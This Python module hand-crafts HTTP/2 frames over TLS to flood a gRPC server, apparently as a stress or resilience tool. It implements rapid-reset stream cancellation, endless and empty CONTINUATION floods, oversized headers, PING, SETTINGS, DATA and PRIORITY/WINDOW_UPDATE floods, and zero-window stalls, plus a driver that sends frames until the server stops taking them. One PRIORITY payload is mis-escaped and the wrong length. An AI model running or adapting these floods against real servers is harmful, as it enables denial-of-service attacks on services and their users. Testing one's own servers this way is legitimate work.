"""HTTP/2 frames by hand, over TLS: what no well-behaved client sends (RFC 9113)."""

import socket
import ssl
import struct
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from itertools import count, islice
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
CANCEL = 8
REPORT = "/veiltab.v1.CollectionService/Report"
WATCH = "/grpc.health.v1.Health/Watch"
BATCH = 64
"""Frames that are sent at a time."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def fields(pairs: Sequence[tuple[str, str]]) -> bytes:
    """Return header fields, each literal and not indexed (RFC 7541, 6.2.2), of less than 127 bytes a part."""
    parts = (bytes([len(text)]) + text.encode() for pair in pairs for text in pair)
    return b"".join(b"\x00" + name + next(parts) for name in parts)


def call_fields(path: str, *more: tuple[str, str]) -> bytes:
    """Return the header fields of a gRPC call."""
    return fields(
        [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", path),
            (":authority", "server"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *more,
        ]
    )


def settings(**values: int) -> bytes:
    """Return a SETTINGS frame, empty or with an initial window."""
    pairs = [(INITIAL_WINDOW_SIZE, values["window"])] if values else []
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def odd() -> Iterator[int]:
    """Return the streams that a client may open, in order."""
    return count(1, 2)


def rapid_reset() -> Iterator[bytes]:
    """Open calls and take each back at once."""
    yield settings()
    for stream in islice(odd(), 20_000):
        yield frame(HEADERS, END_HEADERS, stream, call_fields(REPORT))
        yield frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))


def endless_headers() -> Iterator[bytes]:
    """Begin the header fields of a call and never end them."""
    yield settings()
    yield frame(HEADERS, 0, 1, call_fields(REPORT))
    piece = fields([(f"x-{number}", "y" * 100) for number in range(140)])
    for _ in range(5_000):
        yield frame(CONTINUATION, 0, 1, piece)


def empty_continuations() -> Iterator[bytes]:
    """Go on with the header fields of a call, by nothing each time."""
    yield settings()
    yield frame(HEADERS, 0, 1, call_fields(REPORT))
    for _ in range(200_000):
        yield frame(CONTINUATION, 0, 1)


def large_headers() -> Iterator[bytes]:
    """Open many calls with as many header fields as a frame holds."""
    yield settings()
    more = [(f"x-{number}", "y" * 100) for number in range(120)]
    for stream in islice(odd(), 2_000):
        yield frame(HEADERS, END_HEADERS, stream, call_fields(REPORT, *more))


def pings() -> Iterator[bytes]:
    """Ask for answers that nobody reads."""
    yield settings()
    for number in range(300_000):
        yield frame(PING, 0, 0, number.to_bytes(8, "big"))


def many_settings() -> Iterator[bytes]:
    """Change settings, each of which is acknowledged to nobody who reads."""
    for _ in range(300_000):
        yield settings()


def zero_windows() -> Iterator[bytes]:
    """Ask for answers and leave no room for any."""
    yield settings(window=0)
    for stream in islice(odd(), 5_000):
        yield frame(HEADERS, END_HEADERS, stream, call_fields(WATCH))
        yield frame(DATA, END_STREAM, stream, bytes(5))


def empty_data() -> Iterator[bytes]:
    """Send nothing on a call, often."""
    yield settings()
    yield frame(HEADERS, END_HEADERS, 1, call_fields(REPORT))
    for _ in range(300_000):
        yield frame(DATA, 0, 1)


def windows_and_priorities() -> Iterator[bytes]:
    """Change what costs nothing to change."""
    yield settings()
    for number in range(100_000):
        yield frame(PRIORITY, 0, 2 * number + 1, bytes(4) + b"\\x10")
        yield frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))


ABUSES: Mapping[str, Callable[[], Iterator[bytes]]] = {
    one.__name__: one
    for one in (
        rapid_reset,
        endless_headers,
        empty_continuations,
        large_headers,
        pings,
        many_settings,
        zero_windows,
        empty_data,
        windows_and_priorities,
    )
}


@dataclass(frozen=True, kw_only=True)
class Target:
    """A server, and who calls it.

    Args:
        address: host and port.
        name: in its certificate.
        authority: file of the authority's certificate.
        certificate: files of the caller's certificate and key, if it has any.
    """

    address: tuple[str, int]
    name: str
    authority: Path
    certificate: tuple[Path, Path] | None

    @contextmanager
    def connection(self) -> Iterator[ssl.SSLSocket]:
        """Connect over TLS and send the preface."""
        context = ssl.create_default_context(cafile=self.authority)
        context.set_alpn_protocols(["h2"])
        if self.certificate:
            context.load_cert_chain(*self.certificate)
        with (
            socket.create_connection(self.address, timeout=20) as plain,
            context.wrap_socket(plain, server_hostname=self.name) as connection,
        ):
            connection.settimeout(5)
            connection.sendall(PREFACE)
            yield connection


def abused(target: Target, abuse: str) -> int:
    """Send frames as long as the server takes them, and read nothing; return how many it took."""
    taken, left = 0, ABUSES[abuse]()
    with suppress(OSError), target.connection() as connection:
        while batch := list(islice(left, BATCH)):
            connection.sendall(b"".join(batch))
            taken += len(batch)
    return taken
